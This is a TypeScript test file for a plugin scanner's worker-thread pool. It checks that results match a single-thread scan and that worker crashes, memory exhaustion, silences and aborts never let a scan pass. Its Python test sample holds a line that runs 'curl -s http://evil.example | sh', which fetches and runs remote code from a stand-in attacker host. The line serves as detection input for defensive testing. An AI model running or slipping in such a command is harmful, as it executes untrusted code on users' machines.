/**
 * Scanning on worker threads (`engine/worker-pool.ts`): the same report as one thread gives,
 * and every way a worker can fail leaves the scan failed, timed out or done in this thread,
 * never passed.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import {
	cpSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	rmSync,
	writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FileReader } from '../../src/scan/files/read.ts';
import {
	createScanWorkerPool,
	inThreadRunner,
	type ScanReport,
	type ScanWorkerPool,
	type SourceScanRequest,
	scanPlugin,
	sharedScanPool,
} from '../../src/scan/index.ts';
import { FIXTURES, testEngine } from './support.ts';

const WORKERS = new URL('../fixtures/scan-workers/', import.meta.url);

const MALICIOUS_TEXT =
	'import os\n\ndef enable(api):\n    os.system("curl -s http://evil.example | sh")\n';

function request(text: string, timeoutMs = 10_000): SourceScanRequest {
	return { path: 'mod.py', language: 'python', text, timeoutMs, maxNestingDepth: 200 };
}

async function mainLane() {
	return inThreadRunner(await testEngine(), () => performance.now());
}

function poolWith(worker: string, extra: { watchdogGraceMs?: number } = {}): ScanWorkerPool {
	return createScanWorkerPool({
		size: 1,
		mainLane,
		spawnAfterMs: 0,
		workerFile: new URL(worker, WORKERS),
		...extra,
	});
}

/**
 * A plugin of a few hundred files: the malicious samples, the real Picard plugins and every
 * third adversarial sample, each under its own folder.
 */
function corpus(root: string): string {
	const dir = join(root, 'corpus');
	mkdirSync(dir);
	writeFileSync(
		join(dir, 'MANIFEST.toml'),
		'name = "Corpus"\nuuid = "0f6c1d52-5a3e-4a4e-9c55-3b0d8f1b2c11"\n',
	);
	for (const set of ['malicious', 'real-picard', 'adversarial']) {
		const samples = readdirSync(join(FIXTURES, set)).sort();
		for (const sample of samples.filter((_, index) => set !== 'adversarial' || index % 3 === 0)) {
			cpSync(join(FIXTURES, set, sample), join(dir, set, sample), { recursive: true });
		}
	}
	return dir;
}

/** What a report says of the plugin, without where it was scanned or how long it took. */
function verdict(report: ScanReport) {
	return {
		findings: report.findings,
		files: report.files,
		skipped: report.skipped,
		capabilities: report.capabilities,
	};
}

describe('scanning on worker threads', () => {
	let root: string;
	// The corpus and its report from one thread, shared by the tests that compare against it:
	// scanning it is most of their time, and the tests only read it.
	let large: Promise<{ dir: string; alone: ScanReport }> | undefined;
	const largeCorpus = () => {
		large ??= (async () => {
			const dir = corpus(root);
			return { dir, alone: await scanPlugin(dir, { inThread: true }) };
		})();
		return large;
	};
	before(() => {
		root = mkdtempSync(join(tmpdir(), 'vouch-scan-pool-'));
	});
	after(() => rmSync(root, { recursive: true, force: true }));

	test('a large plugin scanned on workers gets the report one thread gives', async () => {
		const { dir, alone } = await largeCorpus();
		const pool = sharedScanPool();
		pool.start();
		assert.equal(await pool.started(), true, 'the workers could not start');
		const before = pool.counts().workers;
		const parallel = await scanPlugin(dir);
		assert.ok(pool.counts().workers > before, 'no file was scanned on a worker');
		assert.ok(alone.summary.high > 0, 'the corpus has high findings');
		assert.deepEqual(verdict(parallel), verdict(alone));
	});

	test('scans sharing the pool at once each get their own report, whatever another does', async () => {
		const { dir: large, alone } = await largeCorpus();
		const other = join(root, 'other');
		mkdirSync(other);
		for (let index = 0; index < 40; index++) {
			writeFileSync(join(other, `m${String(index).padStart(2, '0')}.py`), `v${index} = ${index}\n`);
		}
		writeFileSync(join(other, 'm40.py'), MALICIOUS_TEXT);
		const pool = sharedScanPool();
		pool.start();
		assert.equal(await pool.started(), true);
		const stop = new AbortController();
		const [first, second, aborted] = await Promise.allSettled([
			scanPlugin(large),
			scanPlugin(other),
			scanPlugin(large, { signal: stop.signal }),
			Promise.resolve().then(() => stop.abort(new Error('install ended'))),
		]);
		assert.equal(aborted?.status, 'rejected');
		assert.equal(first?.status, 'fulfilled');
		assert.equal(second?.status, 'fulfilled');
		const otherAlone = await scanPlugin(other, { inThread: true });
		assert.deepEqual(verdict((first as PromiseFulfilledResult<ScanReport>).value), verdict(alone));
		assert.deepEqual(
			verdict((second as PromiseFulfilledResult<ScanReport>).value),
			verdict(otherAlone),
		);
	});

	for (const [worker, how] of [
		['exits-on-scan.mjs', 'dies on a file'],
		['exhausts-memory.mjs', 'runs out of memory on a file'],
	] as const) {
		test(`a worker that ${how} fails that file, not the program: the scan cannot pass`, async () => {
			const pool = poolWith(worker);
			try {
				pool.start();
				assert.equal(await pool.started(), true);
				await assert.rejects(pool.run(request(MALICIOUS_TEXT)), { code: 'SCAN_FILE_FAILED' });
			} finally {
				await pool.close();
			}
		});
	}

	test('files sent ahead to a worker that dies are still scanned, by another', async () => {
		const pool = poolWith('dies-on-marked.mjs');
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			const texts = ['x = 1\n', 'BOOM = 1\n', 'y = 2\n', 'z = 3\n', 'w = 4\n', 'v = 5\n'];
			const outcomes = await Promise.allSettled(texts.map((text) => pool.run(request(text))));
			assert.equal(outcomes[1]?.status, 'rejected');
			assert.equal((outcomes[1] as PromiseRejectedResult).reason.code, 'SCAN_FILE_FAILED');
			for (const [index, outcome] of outcomes.entries()) {
				if (index === 1) continue;
				assert.equal(outcome.status, 'fulfilled', `file ${index} was lost with the worker`);
				assert.equal(
					(outcome as PromiseFulfilledResult<{ status: string }>).value.status,
					'scanned',
				);
			}
		} finally {
			await pool.close();
		}
	});

	test('a scan through a pool whose worker dies fails as a whole', async () => {
		const pool = poolWith('exits-on-scan.mjs');
		const dir = join(root, 'dies');
		mkdirSync(dir);
		for (let index = 0; index < 12; index++) {
			writeFileSync(join(dir, `mod${index}.py`), MALICIOUS_TEXT);
		}
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			await assert.rejects(scanPlugin(dir, { runner: pool }), { code: 'SCAN_FILE_FAILED' });
		} finally {
			await pool.close();
		}
	});

	test('a worker silent past the file bound is ended, and the file counts as timed out', async () => {
		const pool = poolWith('silent.mjs', { watchdogGraceMs: 50 });
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			const result = await pool.run(request('x = 1\ny = 2\n', 20));
			assert.deepEqual(result, { status: 'timeout', findings: [], lines: 2 });
		} finally {
			await pool.close();
		}
	});

	for (const [worker, why] of [
		['fails-to-load.mjs', 'cannot load'],
		['engine-unavailable.mjs', 'cannot load its engine'],
	] as const) {
		test(`a worker that ${why} leaves every file to this thread`, async () => {
			const pool = poolWith(worker);
			try {
				pool.start();
				assert.equal(await pool.started(), false);
				const result = await pool.run(request(MALICIOUS_TEXT));
				assert.equal(result.status, 'scanned');
				assert.ok(
					result.status === 'scanned' && result.findings.some((f) => f.severity === 'high'),
					'the file was not judged',
				);
				assert.deepEqual(pool.counts(), { workers: 0, here: 1 });
			} finally {
				await pool.close();
			}
		});
	}

	test('an aborted scan takes no more of the pool: its files are dropped, not scanned', async () => {
		// A worker that never answers holds the files sent to it; the rest wait in the queue.
		const pool = poolWith('silent.mjs', { watchdogGraceMs: 50 });
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			const stop = new AbortController();
			const runs = Array.from({ length: 10 }, () =>
				pool.run(request(MALICIOUS_TEXT, 20), stop.signal),
			);
			stop.abort(new Error('install ended'));
			const outcomes = await Promise.allSettled(runs);
			for (const outcome of outcomes) {
				assert.equal(outcome.status, 'rejected', 'a file of an aborted scan was still scanned');
				assert.equal((outcome as PromiseRejectedResult).reason.message, 'install ended');
			}
			assert.deepEqual(pool.counts(), { workers: 0, here: 0 });
		} finally {
			await pool.close();
		}
	});

	test('an aborted plugin scan stops feeding the pool', async () => {
		const pool = poolWith('silent.mjs', { watchdogGraceMs: 600_000 });
		const dir = join(root, 'aborted');
		mkdirSync(dir);
		for (let index = 0; index < 12; index++) {
			writeFileSync(join(dir, `mod${String(index).padStart(2, '0')}.py`), MALICIOUS_TEXT);
		}
		const stop = new AbortController();
		let reads = 0;
		// From memory, as install's reader is: every file is handed to the pool before this
		// thread's lane takes one, and the tenth read ends the install.
		const reader: FileReader = {
			async bounded(path) {
				if (++reads === 10) stop.abort(new Error('install ended'));
				const bytes = readFileSync(path);
				return { status: 'ok', bytes, size: bytes.length };
			},
			head: async (path, count) => readFileSync(path).subarray(0, count),
		};
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			await assert.rejects(scanPlugin(dir, { runner: pool, reader, signal: stop.signal }), {
				message: 'install ended',
			});
			const before = pool.counts().here;
			// Queued behind whatever the aborted scan left: it runs once they have.
			await pool.run({ ...request(MALICIOUS_TEXT), timeoutMs: 10_000 });
			assert.equal(pool.counts().here - before, 1, 'files of the aborted scan were scanned');
		} finally {
			await pool.close();
		}
	});

	test("files still waiting on a worker at the whole scan's bound count as not scanned", async () => {
		// A worker that never answers holds the files sent to it; nothing else would end them
		// before their own bound of a minute each.
		const pool = poolWith('silent.mjs', { watchdogGraceMs: 50 });
		const dir = join(root, 'late');
		mkdirSync(dir);
		for (let index = 0; index < 12; index++) {
			writeFileSync(join(dir, `mod${String(index).padStart(2, '0')}.py`), MALICIOUS_TEXT);
		}
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			const report = await scanPlugin(dir, {
				runner: pool,
				limits: { maxScanMs: 100, fileTimeoutMs: 60_000 },
			});
			const late = report.skipped.filter((skip) => skip.reason === 'timeout');
			assert.ok(late.length >= 4, 'the files sent to the worker were not counted as late');
			for (const skip of late) assert.match(skip.detail, /whole scan's bound/);
			assert.equal(report.files.scanned + late.length, 12);
		} finally {
			await pool.close();
		}
	});

	test("a worker's answer is read before its watchdog ends it, however long this thread was busy", async () => {
		// This thread's lane holds the event loop far past the worker's bound and grace (300 ms),
		// while the worker (one that answers at once) has long answered: two seconds leave it
		// time to answer even on a machine busy with other work. The bound and grace are long
		// enough that a machine which stalls this process before the lane starts does not fire
		// the watchdog on a worker that simply has not been given the processor yet.
		const busyLane = {
			concurrency: 1,
			async run() {
				const until = performance.now() + 2_000;
				while (performance.now() < until) {
					// The whole of one file's scan, synchronous as the engine's is.
				}
				return { status: 'scanned' as const, findings: [], lines: 1 };
			},
		};
		const pool = createScanWorkerPool({
			size: 1,
			mainLane: async () => busyLane,
			spawnAfterMs: 0,
			workerFile: new URL('dies-on-marked.mjs', WORKERS),
			watchdogGraceMs: 200,
		});
		try {
			pool.start();
			assert.equal(await pool.started(), true);
			// Four files go to the worker at once and the fifth to this thread's lane: none is sent
			// to the worker after the lane, when only 300 ms of wall time would stand between a
			// slow machine and a watchdog that rightly fires.
			const results = await Promise.all(
				Array.from({ length: 5 }, () => pool.run(request('x = 1\n', 100))),
			);
			assert.deepEqual(
				results.map((result) => result.status),
				Array.from({ length: 5 }, () => 'scanned'),
			);
			assert.deepEqual(pool.counts(), { workers: 4, here: 1 });
		} finally {
			await pool.close();
		}
	});

	test('a scan that fails on one file hands the pool none of its other files', async () => {
		let scans = 0;
		const failingLane = {
			concurrency: 1,
			async run(request: SourceScanRequest) {
				scans++;
				if (request.text.includes('BOOM')) throw new Error('the parser gave up');
				return { status: 'scanned' as const, findings: [], lines: 1 };
			},
		};
		const pool = createScanWorkerPool({
			size: 0,
			mainLane: async () => failingLane,
			spawnAfterMs: 0,
		});
		const dir = join(root, 'fails');
		mkdirSync(dir);
		writeFileSync(join(dir, 'a00.py'), 'BOOM = 1\n');
		for (let index = 1; index < 12; index++) {
			writeFileSync(join(dir, `a${String(index).padStart(2, '0')}.py`), 'x = 1\n');
		}
		// From memory, as install's reader is: the files are handed over before any is scanned.
		const reader: FileReader = {
			async bounded(path) {
				const bytes = readFileSync(path);
				return { status: 'ok', bytes, size: bytes.length };
			},
			head: async (path, count) => readFileSync(path).subarray(0, count),
		};
		await assert.rejects(scanPlugin(dir, { runner: pool, reader }), {
			message: 'the parser gave up',
		});
		const before = scans;
		// Queued behind whatever the failed scan left: it runs once they have.
		await pool.run(request('y = 2\n'));
		assert.equal(scans - before, 1, 'files of the failed scan were scanned after it ended');
	});

	test('a wait for workers still starting ends when the pool is closed', async () => {
		const pool = poolWith('silent.mjs');
		pool.start();
		const started = pool.started();
		await pool.close();
		assert.equal(await started, false);
	});

	test('a scan timed by its own clock, or on an engine of its own, stays in this thread', async () => {
		const dir = join(root, 'own-clock');
		mkdirSync(dir);
		writeFileSync(join(dir, 'mod.py'), MALICIOUS_TEXT);
		const pool = sharedScanPool();
		pool.start();
		assert.equal(await pool.started(), true);
		const before = pool.counts();
		const clocked = await scanPlugin(dir, { clock: () => 0 });
		const engined = await scanPlugin(dir, { engine: await testEngine() });
		assert.deepEqual(pool.counts(), before, 'a file went to the shared pool');
		assert.ok(clocked.summary.high > 0 && engined.summary.high > 0);
	});

	test('a pool of no workers says at once that none will start', async () => {
		const pool = createScanWorkerPool({ size: 0, mainLane, spawnAfterMs: 0 });
		pool.start();
		assert.equal(await pool.started(), false);
		assert.equal((await pool.run(request(MALICIOUS_TEXT))).status, 'scanned');
	});

	test('files of an aborted scan still on a worker do not keep a program from ending', () => {
		const script = join(root, 'aborts.mjs');
		const ext = import.meta.url.endsWith('.ts') ? 'ts' : 'js';
		const index = new URL(`../../src/scan/index.${ext}`, import.meta.url);
		writeFileSync(
			script,
			[
				`const scanner = await import(${JSON.stringify(index.href)});`,
				// A worker that never answers, and a watchdog that would wait ten minutes.
				'const pool = scanner.createScanWorkerPool({',
				'  size: 1,',
				"  mainLane: async () => { throw new Error('not used'); },",
				'  spawnAfterMs: 0,',
				`  workerFile: new URL('silent.mjs', ${JSON.stringify(WORKERS.href)}),`,
				'  watchdogGraceMs: 600_000,',
				'});',
				'pool.start();',
				'if (!(await pool.started())) process.exit(3);',
				'const stop = new AbortController();',
				"const request = { path: 'mod.py', language: 'python', text: 'x = 1\\n', timeoutMs: 10_000, maxNestingDepth: 200 };",
				'const runs = [1, 2, 3].map(() => pool.run(request, stop.signal));',
				'stop.abort();',
				'const outcomes = await Promise.allSettled(runs);',
				"console.log(outcomes.filter((outcome) => outcome.status === 'rejected').length);",
			].join('\n'),
		);
		const flags = process.execArgv.filter((flag) => !flag.startsWith('--test'));
		const child = spawnSync(process.execPath, [...flags, script], {
			encoding: 'utf8',
			// Only against a hang: an ending program takes well under a second here.
			timeout: 120_000,
		});
		assert.equal(child.signal, null, 'the program did not end by itself');
		assert.equal(child.status, 0, child.stderr);
		assert.equal(child.stdout.trim(), '3');
	});

	test('idle workers do not keep a program from ending, and a scan on them prints nothing', () => {
		const script = join(root, 'ends.mjs');
		// Beside this test: TypeScript when run from source, JavaScript when run built.
		const ext = import.meta.url.endsWith('.ts') ? 'ts' : 'js';
		const index = new URL(`../../src/scan/index.${ext}`, import.meta.url);
		// Enough files for many to wait on the workers at once, each listening for an abort.
		const dir = join(root, 'many');
		mkdirSync(dir, { recursive: true });
		for (let index = 0; index < 60; index++) {
			writeFileSync(join(dir, `mod${index}.py`), MALICIOUS_TEXT);
		}
		writeFileSync(
			script,
			[
				`const scanner = await import(${JSON.stringify(index.href)});`,
				'const pool = scanner.sharedScanPool();',
				'pool.start();',
				'if (!(await pool.started())) process.exit(3);',
				`const report = await scanner.scanPlugin(${JSON.stringify(dir)});`,
				'console.log(report.summary.high);',
			].join('\n'),
		);
		const flags = process.execArgv.filter((flag) => !flag.startsWith('--test'));
		const child = spawnSync(process.execPath, [...flags, script], {
			encoding: 'utf8',
			// Only against a hang: an ending program takes well under a second here.
			timeout: 120_000,
		});
		assert.equal(child.signal, null, 'the program did not end by itself');
		assert.equal(child.status, 0, child.stderr);
		assert.ok(Number(child.stdout.trim()) > 0);
		// A warning here would land in the terminal of every `vouch` command that scans.
		assert.equal(child.stderr, '');
	});
});
